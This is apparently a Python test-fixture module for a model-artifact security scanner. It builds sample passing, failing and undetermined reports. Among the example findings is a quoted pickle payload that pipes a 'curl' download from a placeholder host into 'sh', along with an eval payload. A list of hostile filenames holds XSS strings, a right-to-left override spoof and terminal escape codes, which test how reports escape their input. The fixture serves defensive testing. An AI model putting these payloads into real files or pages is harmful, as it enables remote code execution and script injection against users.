"""Reports to write: one that passes, one that fails in every way, one that nobody can tell."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from unit.export import lineages
from weighbridge.core import (
    Answer,
    ArtifactEvidence,
    ArtifactKind,
    Attribution,
    Card,
    CardEvidence,
    Coverage,
    CoverageStatus,
    Digest,
    DocumentCheck,
    DocumentEntry,
    Evidence,
    Finding,
    LicenseEvidence,
    Location,
    ManifestDiff,
    NotChecked,
    ReadFailure,
    ReadFailureKind,
    Resource,
    RuleResult,
    ScanReport,
    Severity,
    SignatureEvidence,
    Verdict,
)
from weighbridge.export import CheckReport

AT = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
DIGEST = Digest("3f2a9c0d" * 8)
POLICY_DIGEST = "sha256:" + "77" * 32
ENGINE = "weighbridge 0.1.0, allow-list 2026.11"

CARD = Card(
    file="README.md",
    licenses=("apache-2.0",),
    base_models=("nreimers/MiniLM-L6-H384-uncased",),
    datasets=("s2orc", "ms_marco", "gooaq", "yahoo_answers_topics"),
    languages=("en",),
    library_name="sentence-transformers",
    pipeline_tag="sentence-similarity",
    tags=("sentence-transformers", "feature-extraction"),
    has_body=True,
)

UNASKED = "the policy does not require it"
NOT_CHECKED = (
    NotChecked("provenance: how it was made", UNASKED),
    NotChecked("lineage: what it was made from, and under which licences", UNASKED),
    NotChecked("review: whether a person has reviewed it", UNASKED),
)


def _row(
    file: str,
    status: CoverageStatus,
    kind: str,
    reason: str = "",
    member: tuple[str, ...] = (),
) -> Coverage:
    return Coverage(Location(file, member), status, kind, reason)


GOOD_ROWS = (
    _row(".git", CoverageStatus.OUT_OF_SCOPE, "unknown", "version control"),
    _row("1_Pooling/config.json", CoverageStatus.INERT, "json", "text that nothing runs"),
    _row("README.md", CoverageStatus.INERT, "text", "text that nothing runs"),
    _row("config.json", CoverageStatus.INERT, "json", "text that nothing runs"),
    _row("model.safetensors", CoverageStatus.EXAMINED, "safetensors"),
    _row("modules.json", CoverageStatus.INERT, "json", "text that nothing runs"),
    _row("tokenizer.json", CoverageStatus.INERT, "json", "text that nothing runs"),
    _row("vocab.txt", CoverageStatus.INERT, "text", "text that nothing runs"),
)


def passing() -> CheckReport:
    note = Finding(
        "WB-STN-010",
        Answer.PASS,
        Severity.INFO,
        Location("model.safetensors", offset=8),
        "The header declares its own format as pt.",
    )
    return CheckReport(
        verdict=Verdict(
            answer=Answer.PASS,
            rules=(
                RuleResult(
                    "integrity",
                    Answer.PASS,
                    "7 files, 87.4 MiB; they are the files that model.sig lists.",
                ),
                RuleResult("signature", Answer.PASS, "Signed by release."),
                RuleResult("scan", Answer.PASS, "Nothing dangerous in 7 files."),
                RuleResult("licenses", Answer.PASS, "Apache-2.0 is allowed."),
                RuleResult("card", Answer.PASS, "README.md declares what the profile asks for."),
            ),
            not_checked=NOT_CHECKED,
            policy="weighbridge.toml",
            policy_digest=POLICY_DIGEST,
            at=AT,
        ),
        evidence=Evidence(
            artifact=ArtifactEvidence(
                "models/all-MiniLM-L6-v2",
                ArtifactKind.FOLDER,
                DIGEST,
                7,
                91_600_000,
                left_out=(".gitattributes", "model.sig"),
            ),
            signature=SignatureEvidence(
                "models/all-MiniLM-L6-v2/model.sig",
                found=True,
                attributions=(Attribution("release", "key", "5f" * 32),),
                diff=ManifestDiff(),
            ),
            scan=ScanReport(ENGINE, (note,), GOOD_ROWS),
            card=CardEvidence(CARD),
            license=LicenseEvidence("apache-2.0", "Apache-2.0"),
        ),
        version="0.1.0",
    )


BAD_FINDINGS = (
    Finding(
        "WB-PKL-020",
        Answer.UNKNOWN,
        Severity.MEDIUM,
        Location("embeddings.joblib", offset=412),
        "Names sklearn.extra.Mystery, for which nobody vouches.",
        "sklearn.extra.Mystery",
    ),
    Finding(
        "WB-PKL-001",
        Answer.FAIL,
        Severity.CRITICAL,
        Location("evil.pkl", offset=17),
        "Would run a shell command as soon as it is loaded.",
        "posix.system(\n  'curl https://example.com/x | sh'\n)",
    ),
    Finding(
        "WB-PKL-001",
        Answer.FAIL,
        Severity.CRITICAL,
        Location("pytorch_model.bin", ("archive/data.pkl",), 2048),
        "Would evaluate Python source as soon as it is loaded.",
        "builtins.eval('__import__(\"os\").getcwd()')",
    ),
    Finding(
        "WB-STN-003",
        Answer.FAIL,
        Severity.HIGH,
        Location("model.safetensors"),
        "The tensors 'a' and 'b' overlap: [0, 16) and [8, 24).",
    ),
)


def failing() -> CheckReport:
    signed = Resource("model.safetensors", -1, "aa" * 32)
    found = Resource("model.safetensors", 90_000_000, "bb" * 32)
    rows = (
        *GOOD_ROWS,
        _row("embeddings.joblib", CoverageStatus.EXAMINED, "joblib"),
        _row("evil.pkl", CoverageStatus.EXAMINED, "pickle"),
        _row("huge.zip", CoverageStatus.EXAMINED, "zip"),
        _row(
            "huge.zip",
            CoverageStatus.NOT_EXAMINED,
            "unknown",
            "expands to more than 16 GiB",
            ("inner/bomb.bin",),
        ),
        _row("notes.xyz", CoverageStatus.NOT_EXAMINED, "unknown", "no engine knows this format"),
        _row("pytorch_model.bin", CoverageStatus.EXAMINED, "torch-zip"),
        _row("pytorch_model.bin", CoverageStatus.EXAMINED, "pickle", member=("archive/data.pkl",)),
    )
    return CheckReport(
        verdict=Verdict(
            answer=Answer.FAIL,
            rules=(
                RuleResult(
                    "integrity",
                    Answer.FAIL,
                    "2 files are not what was signed or cannot be weighed.",
                    ("model.safetensors", "link.bin"),
                    "Fetch the artifact again from its publisher, or have it signed again.",
                ),
                RuleResult(
                    "signature",
                    Answer.FAIL,
                    "model.sig was made by release, but the files differ from those it lists.",
                    ("model.safetensors", "evil.pkl"),
                    "Do not use these files; ask release which version they signed.",
                ),
                RuleResult(
                    "scan",
                    Answer.FAIL,
                    "evil.pkl: would run a shell command as soon as it is loaded. There are 2 more "
                    "findings that fail, and one file for which nobody vouches.",
                    ("evil.pkl", "pytorch_model.bin", "model.safetensors"),
                    "Remove evil.pkl and pytorch_model.bin; ask for safetensors files instead.",
                ),
                RuleResult(
                    "licenses",
                    Answer.UNKNOWN,
                    "The card declares 'other' without a name, so the licence cannot be told.",
                    ("README.md",),
                    "Ask the publisher for license_name and license_link in the card.",
                ),
                RuleResult("card", Answer.PASS, "README.md can be read."),
            ),
            not_checked=NOT_CHECKED,
            policy="policies/production.toml",
            policy_digest=POLICY_DIGEST,
            at=AT,
        ),
        evidence=Evidence(
            artifact=ArtifactEvidence(
                "models/all-MiniLM-L6-v2",
                ArtifactKind.FOLDER,
                None,
                12,
                181_600_000,
                (
                    ReadFailure(
                        "link.bin", ReadFailureKind.REFUSED, "is a symbolic link to /etc/passwd"
                    ),
                ),
            ),
            signature=SignatureEvidence(
                "models/all-MiniLM-L6-v2/model.sig",
                found=True,
                attributions=(Attribution("release", "key", "5f" * 32),),
                diff=ManifestDiff(
                    changed=((signed, found),),
                    missing=(Resource("vocab.bin", -1, "cc" * 32),),
                    extra=(Resource("evil.pkl", 58, "dd" * 32),),
                    renamed=((Resource("a.txt", -1, "ee" * 32), Resource("b.txt", 4, "ee" * 32)),),
                ),
            ),
            scan=ScanReport(ENGINE, BAD_FINDINGS, rows),
            card=CardEvidence(Card(file="README.md", licenses=("other",), has_body=True)),
            license=LicenseEvidence("other", "", "'other' needs a license_name"),
        ),
        version="0.1.0",
    )


def unknown() -> CheckReport:
    rows = (_row("model.onnx", CoverageStatus.NOT_EXAMINED, "onnx", "no engine for onnx yet"),)
    return CheckReport(
        verdict=Verdict(
            answer=Answer.UNKNOWN,
            rules=(
                RuleResult(
                    "integrity",
                    Answer.PASS,
                    "1 file, 4.0 KiB; there is no signature file to compare with.",
                ),
                RuleResult(
                    "scan",
                    Answer.UNKNOWN,
                    "model.onnx was not examined: no engine for onnx yet.",
                    ("model.onnx",),
                    "Have a person look at the file, or use a format that can be examined.",
                ),
                RuleResult(
                    "card",
                    Answer.UNKNOWN,
                    "A single file holds no model card.",
                    (),
                    "Check the folder that the publisher distributes.",
                ),
            ),
            not_checked=(
                NotChecked("who signed it", "without a policy nobody's signature is trusted"),
                *NOT_CHECKED,
            ),
            policy="built-in",
            policy_digest="",
            at=AT,
        ),
        evidence=Evidence(
            artifact=ArtifactEvidence("model.onnx", ArtifactKind.FILE, DIGEST, 1, 4096),
            signature=SignatureEvidence("model.onnx.sig", found=False),
            scan=ScanReport(ENGINE, (), rows),
            card=CardEvidence(None, "a single file holds no model card"),
            license=LicenseEvidence(problem="there is no model card"),
        ),
        version="0.1.0",
    )


HOSTILE_NAMES = (
    '"><script>alert(1)</script>',
    "'onmouseover='alert(1)",
    "</pre></td><img src=x onerror=alert(1)>",
    "invoice\u202efdp.pkl",
    "esc\x1b[31mred\x07.bin",
    "byte\udce9.bin",
    "half\ud800pair",
    "&amp;&lt;{0}[click](https://example.com/)",
    "名前" * 200,
    "long-" * 800,
)


def hostile(name: str) -> CheckReport:
    """A report in which every word that a stranger can choose is ``name``."""
    resource = Resource(name, 1, "ab" * 32)
    location = Location(name, (name, name), 3)
    finding = Finding("WB-PKL-001", Answer.FAIL, Severity.HIGH, location, name, f"{name}\n{name}")
    return CheckReport(
        verdict=Verdict(
            answer=Answer.FAIL,
            rules=(
                RuleResult("scan", Answer.FAIL, name, (name,), name),
                RuleResult(name, Answer.FAIL, name, (name,), name, is_warning=True),
                RuleResult("waived", Answer.PASS, name, waiver=name),
            ),
            not_checked=(NotChecked("review", name),),
            policy=name,
            policy_digest=POLICY_DIGEST,
            at=AT,
        ),
        evidence=Evidence(
            artifact=ArtifactEvidence(
                name,
                ArtifactKind.FOLDER,
                None,
                1,
                1,
                (ReadFailure(name, ReadFailureKind.UNREADABLE, name),),
            ),
            signature=SignatureEvidence(
                name,
                found=True,
                problem=name,
                attributions=(Attribution(name, "certificate", name, name, AT, (name,)),),
                diff=ManifestDiff(
                    changed=((resource, resource),),
                    missing=(resource,),
                    extra=(resource,),
                    renamed=((resource, resource),),
                ),
            ),
            scan=ScanReport(
                name,
                (finding,),
                (Coverage(location, CoverageStatus.NOT_EXAMINED, name, name),),
            ),
            card=CardEvidence(
                Card(
                    file=name,
                    licenses=(name,),
                    license_name=name,
                    license_link=name,
                    base_models=(name,),
                    datasets=(name,),
                    languages=(name,),
                    library_name=name,
                    pipeline_tag=name,
                    tags=(name,),
                ),
                problem=name,
            ),
            license=LicenseEvidence(name, name, name),
            lineage=lineages.hostile(name),
            document=DocumentCheck(name, (DocumentEntry(name, Answer.FAIL, name),)),
        ),
        version="0.1.0",
    )


def traced() -> CheckReport:
    """A report with a lineage, a warning, a waiver and a document kept by hand."""
    report = passing()
    rules = (
        *report.verdict.rules,
        RuleResult("provenance", Answer.PASS, "The whole chain has SLSA Build level 1."),
        RuleResult(
            "review",
            Answer.FAIL,
            "Only one of two reviewers has approved it.",
            remedy="Ask ml-security for a review.",
            is_warning=True,
        ),
        RuleResult("formats", Answer.PASS, "All files are safetensors.", is_warning=True),
        RuleResult(
            "evaluation",
            Answer.PASS,
            "The accuracy 0.91 is below 0.92.",
            waiver="allowed until 2026-12-31: measured on the old split",
        ),
    )
    document = DocumentCheck(
        "provenance.yaml",
        (
            DocumentEntry("model.sha256", Answer.PASS, "It is the digest of the artifact."),
            DocumentEntry("training_data[0].sha256", Answer.FAIL, "The lineage has another one."),
            DocumentEntry("training.seed", Answer.UNKNOWN, "No statement names a seed."),
        ),
    )
    return replace(
        report,
        verdict=replace(report.verdict, rules=rules),
        evidence=replace(report.evidence, lineage=lineages.good(), document=document),
    )


def broken() -> CheckReport:
    """A report whose lineage has everything wrong, and whose document cannot be read."""
    report = failing()
    document = DocumentCheck("provenance.yaml", problem="line 3 is not YAML")
    evidence = replace(report.evidence, lineage=lineages.bad(), document=document)
    return replace(report, evidence=evidence)


EVERY = {"pass": passing, "fail": failing, "unknown": unknown}
TRACED = {"traced": traced, "broken": broken}
ALL = {**EVERY, **TRACED}
